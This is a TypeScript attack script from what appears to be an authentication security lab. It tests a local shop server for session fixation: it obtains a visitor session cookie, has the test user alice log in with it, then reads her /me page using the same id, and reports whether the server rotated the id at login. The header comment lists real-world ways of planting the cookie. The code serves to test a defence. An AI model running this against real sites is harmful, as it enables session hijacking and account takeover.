/**
 * Session fixation. The attacker visits the shop and gets a perfectly valid visitor session id.
 * It plants that id in alice's browser (a link on a sibling subdomain that sets the cookie, an
 * injected script, a hotel Wi-Fi rewriting a plain-http response) and waits for her to sign in.
 * Then it uses the same id itself.
 */
import { blocked, defineAttack, postJson, worked } from '@authlab/lab-kit';

export default defineAttack({
  title: "plant a session id in alice's browser, let her sign in with it, then use it to read her /me",
  why: 'the server keeps the session id from before the login, so an id the attacker knew beforehand is signed in afterwards',
  async run(lab) {
    // 1. A visitor session of the attacker's own: `name=value` from the Set-Cookie header.
    const visit = await fetch(`${lab.url}/cart`);
    const planted = visit.headers.getSetCookie()[0]?.split(';')[0];
    if (!planted) throw new Error('GET /cart set no session cookie');

    // 2. alice signs in; her browser sends the cookie the attacker planted.
    const login = await postJson(
      lab,
      '/login',
      { email: 'alice@example.com', password: 'correct horse battery staple' },
      { cookie: planted },
    );
    if (!login.ok) throw new Error(`alice could not sign in: ${login.status}`);

    // 3. The attacker, with the id it planted.
    const me = await fetch(`${lab.url}/me`, { headers: { cookie: planted } });
    const body = await me.text();
    return me.ok
      ? worked(`planted "${planted.slice(0, 16)}…" before alice signed in; afterwards GET /me with it answered ${body}`)
      : blocked(`GET /me with the planted id answered ${me.status} ${body}: alice's login got a new session id`);
  },
});
